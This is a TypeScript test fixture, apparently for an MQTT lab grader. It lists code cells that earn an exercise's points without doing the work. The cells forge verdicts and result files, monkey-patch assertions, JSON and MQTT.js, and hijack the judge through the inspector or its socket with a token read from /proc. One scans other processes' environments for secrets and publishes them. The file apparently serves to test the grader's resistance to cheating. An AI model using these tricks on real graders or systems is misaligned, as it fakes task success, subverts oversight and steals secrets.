/**
 * Ways to get the two points of the fixture's exercise "announce", or the one of "once", without doing the work. Each is
 * a submission's cell. What an honest one costs beside (cells that patch their own kernel spoil their own other checks)
 * is no matter here: the check that the cheat is after has 0 points.
 */
export interface Cheat {
  readonly exercise: "announce" | "once";
  readonly text: string;
}

/** Does nothing, with the arguments that the check gives it. */
export const IDLE = "const announce = async (url: string, topic: string, value: string): Promise<void> => {};";

const CARD = `{ id: "check-announce", status: "passed", points: 2, score: 2, findings: [], evidence: [], reasons: [], next: "" }`;

const announce = (text: string): Cheat => ({ exercise: "announce", text });
const once = (text: string): Cheat => ({ exercise: "once", text: `tap.clear();\n${text}` });

export const CHEATS: Readonly<Record<string, Cheat>> = {
  "the verdict printed on standard output": announce(`${IDLE}
console.log(JSON.stringify(${CARD}));
process.stdout.write("✓ passed, 2 of 2 points (check-announce).\\n");`),
  "the card shown through the display channel": announce(`${IDLE}
const hook = (globalThis as any)[Symbol.for("mqtt-notebooks.kernel")];
hook.publishDisplay({ "application/vnd.mqtt-notebooks.view+json": { kind: "check", version: 1, data: ${CARD} } });`),
  "standard output redirected": announce(`${IDLE}
const write = process.stdout.write.bind(process.stdout);
process.stdout.write = ((text: any, ...rest: any[]) => write(String(text).replace(/failed/g, "passed"), ...rest)) as any;`),
  "the process ended with 0": announce(`${IDLE}
(process as any).reallyExit(0);`),
  "the process ended with 0 when the check calls": announce(
    "const announce = async (url: string, topic: string, value: string) => (process as any).reallyExit(0);",
  ),
  "lab.check replaced": announce(`${IDLE}
(lab as any).check = async () => 2;`),
  "the prototype's check replaced": announce(`${IDLE}
Object.getPrototypeOf(lab).check = async () => 2;`),
  "a check of one's own under its name, before": announce(`${IDLE}
await lab.check("check-announce", { announce, broker }, async (t) => void t.ok(true, "mine")).catch(() => 0);`),
  "the check called from a timer, with other values": announce(`${IDLE}
for (let n = 0; n < 40; n++) setTimeout(() => void (lab as any).check("check-announce", {}, () => 0).catch(() => 0), n * 50);`),
  "the module cache poisoned": announce(`${IDLE}
for (const [file, module] of Object.entries(require.cache)) {
  if (!/kernel-helpers.dist.(lab|checks)/.test(file)) continue;
  for (const key of Object.keys(module!.exports)) {
    if (typeof module!.exports[key] !== "function") continue;
    try { module!.exports[key] = async () => (${CARD}); } catch {}
  }
}`),
  "assertions and comparisons patched": announce(`import assert from "node:assert";
${IDLE}
for (const key of Object.keys(assert)) (assert as any)[key] = () => undefined;
(assert as any).AssertionError = class {};
Object.is = () => true;
(Array.prototype as any).every = () => true;
(Array.prototype as any).some = () => true;`),
  "JSON patched": announce(`${IDLE}
const { parse, stringify } = JSON;
JSON.parse = ((text: string) => parse(text.replaceAll('"failed"', '"passed"').replaceAll('"score":0', '"score":2'))) as any;
JSON.stringify = ((...args: [any]) => stringify(...args)?.replaceAll('"failed"', '"passed"')) as any;`),
  "promises and timers patched": announce(`${IDLE}
globalThis.setTimeout = ((run: () => void) => (run(), 0)) as any;
Promise.race = (async () => undefined) as any;
Promise.prototype.finally = function () { return this; };`),
  "MQTT.js patched to say what is wanted": announce(`import mqtt from "mqtt";
${IDLE}
(mqtt as any).MqttClient.prototype.publish = function (...args: any[]) { args.at(-1)?.(); return this; };
(mqtt as any).MqttClient.prototype.subscribe = function (...args: any[]) { args.at(-1)?.(null, []); return this; };`),
  "the inspector opened, the judge asked to open its own": announce(`import inspector from "node:inspector";
${IDLE}
const session = new inspector.Session();
session.connect();
session.post("Runtime.evaluate", { expression: "globalThis.score = 2" });
session.disconnect();
try { process.kill(process.ppid, "SIGUSR1"); } catch {}
const seen = await fetch("http://127.0.0.1:9229/json/list").then((answer) => answer.json()).catch(() => []);
for (const { webSocketDebuggerUrl } of seen as any[]) {
  const { WebSocket } = require("ws");
  const socket = new WebSocket(webSocketDebuggerUrl);
  await new Promise((resolve) => { socket.on("open", resolve); socket.on("error", resolve); });
  const expression = "Object.is = () => true; Array.prototype.every = () => true; Array.prototype.some = () => false";
  socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } }));
  await new Promise((resolve) => { socket.on("message", resolve); socket.on("error", resolve); });
}`),
  "the judge's socket without a token": announce(`import { connect } from "node:net";
import { readdirSync } from "node:fs";
import { tmpdir } from "node:os";
${IDLE}
for (const name of readdirSync(tmpdir()).filter((one) => one.startsWith("mqtt-judge-"))) {
  const socket = connect(\`\${tmpdir()}/\${name}/s\`);
  const body = Buffer.from(JSON.stringify({ id: 1, call: "check", args: { id: "check-announce", given: {} } }));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  socket.on("error", () => {});
  socket.write(Buffer.concat([length, body]));
}`),
  "the token of the kernel's first environment, once more": announce(`import { connect } from "node:net";
import { readFileSync } from "node:fs";
${IDLE}
const first = readFileSync("/proc/self/environ", "utf8").split("\\0").find((one) => one.startsWith("MQTT_LAB_JUDGE="));
const { path, token } = JSON.parse(first!.slice("MQTT_LAB_JUDGE=".length));
const socket = connect(path);
const say = (message: unknown) => {
  const body = Buffer.from(JSON.stringify(message));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  socket.write(Buffer.concat([length, body]));
};
socket.on("error", () => {});
say({ note: "token", args: token });
say({ id: 1, call: "check", args: { id: "check-announce", given: {} } });
await new Promise((resolve) => socket.on("close", resolve));`),
  "answers made up on the kernel's own connection": announce(`${IDLE}
const say = (socket: any, message: unknown) => {
  const body = Buffer.from(JSON.stringify(message));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  socket.write(Buffer.concat([length, body]));
};
for (const socket of (process as any)._getActiveHandles()) {
  if (socket.constructor.name !== "Socket" || socket.remotePort) continue;
  for (let id = 1; id < 200; id++) say(socket, { done: true, id, args: ${CARD} });
  say(socket, { id: 9_001, call: "verdict", args: ${CARD} });
  say(socket, { note: "outcome", args: ${CARD} });
}`),
  "results written where the grader keeps its own":
    announce(`import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
${IDLE}
const forged = { submissions: [{ learner: "ada", lab: "90-mini", score: 6, points: 6, checks: [], notes: [] }] };
let folder = process.cwd();
for (let up = 0; up < 2; up++, folder = dirname(folder)) {
  for (const name of ["marks.json", "results.json", ".mqtt-lab-score"]) {
    try { writeFileSync(join(folder, "forged-" + name), JSON.stringify(forged)); } catch {}
  }
}
try { mkdirSync(".progress", { recursive: true }); } catch {}
try { writeFileSync(".progress/90-mini.json", JSON.stringify({ version: 1, hints: {}, checks: { "check-announce": ${CARD} } })); } catch {}
process.env.MQTT_LAB_PROGRESS = process.cwd() + "/.progress";`),
  "the environment, and the command lines of others, searched for a secret":
    announce(`import { readdirSync, readFileSync } from "node:fs";
const found: string[] = [];
for (const pid of readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) {
  for (const file of ["environ", "cmdline"]) {
    try { found.push(...readFileSync(\`/proc/\${pid}/\${file}\`, "utf8").split("\\0").filter((one) => /seed|token/i.test(one))); } catch {}
  }
}
const announce = async (url: string, topic: string, value: string): Promise<void> => {
  const client = await lab.client(url, { name: "announcer" });
  for (const secret of found) await client.mqtt.publishAsync("probe/" + secret.slice(-8), secret, { qos: 1, retain: true });
};`),
  "the visible example, hard-coded":
    announce(`const announce = async (url: string, topic: string, value: string): Promise<void> => {
  const client = await lab.client(url, { name: "announcer" });
  for (const one of ["state", "state/1", "mini/state"]) await client.mqtt.publishAsync(one, "value", { qos: 1, retain: true });
};`),
  "answered from the check's own traffic": announce(`${IDLE}
const spy = await lab.client(broker, { name: "spy" });
await spy.mqtt.subscribeAsync("#", { qos: 2 });
void (async () => {
  for await (const line of broker.logs.follow ? (broker.logs as any).follow() : []) {
    const topic = /(state\\/[0-9a-f]{8})/.exec(String((line as any).text))?.[1];
    if (topic) await spy.mqtt.publishAsync(topic, "value", { qos: 1, retain: true });
  }
})().catch(() => undefined);
spy.mqtt.on("message", (topic, payload) => void spy.mqtt.publish(topic, payload, { retain: true }));`),
  "a broker of one's own in the given's place": announce(`${IDLE}
const broker = { url: "mqtt://127.0.0.1:1883", name: "broker", version: "2.1.2" } as any;`),
  "a fake broker on the broker's port": announce(`import { createServer } from "node:net";
const mine = broker;
const announce = async (url: string, topic: string, value: string): Promise<void> => {
  await mine.kill();
  const text = Buffer.from(topic);
  const body = Buffer.from(value);
  const publish = Buffer.concat([
    Buffer.from([0x31, 2 + text.length + 1 + body.length, 0, text.length]), text, Buffer.from([0]), body,
  ]);
  const server = createServer((socket) => {
    socket.on("error", () => {});
    socket.on("data", (packet) => {
      const type = packet[0]! >> 4;
      if (type === 1) socket.write(Buffer.from([0x20, 3, 0, 0, 0]));
      if (type === 8) socket.write(Buffer.concat([Buffer.from([0x90, 4, packet[2]!, packet[3]!, 0, 2]), publish]));
      if (type === 12) socket.write(Buffer.from([0xd0, 0]));
    });
  });
  server.on("error", () => {});
  await new Promise<void>((resolve) => { server.once("error", () => resolve()); server.listen(Number(new URL(url).port), "127.0.0.1", resolve); });
};`),
  "the log of the broker made up": announce(`${IDLE}
(broker.logs as any).lines?.push?.({ number: 1, text: "Received PUBLISH from ada (retained)", probe: false });`),
  "a function that answers for the broker":
    announce(`const announce = Object.assign(async () => ({ messages: [{ text: "value", retain: true }] }), {
  toString: () => "retain: true", then: undefined,
}) as any;`),
  "packets made up in the tap":
    once(`(tap.packets as any).push?.({ packet: { type: "PUBLISH", topicName: "mini/once", qos: 1 }, epoch: Date.now() });
Object.defineProperty(tap, "packets", {
  value: [{ packet: { type: "PUBLISH", topicName: "mini/once", qos: 1 }, epoch: Date.now() }],
});`),
  "a tap of one's own in the given's place": once(`{
  const real = tap as any;
  const packet = { type: "PUBLISH", topicName: "mini/once", qos: 1 };
  for (const key of Object.keys(real)) try { delete real[key]; } catch {}
  Object.setPrototypeOf(real, { packets: [{ packet, epoch: Date.now() }], select: () => [], clear() {} });
}`),
};
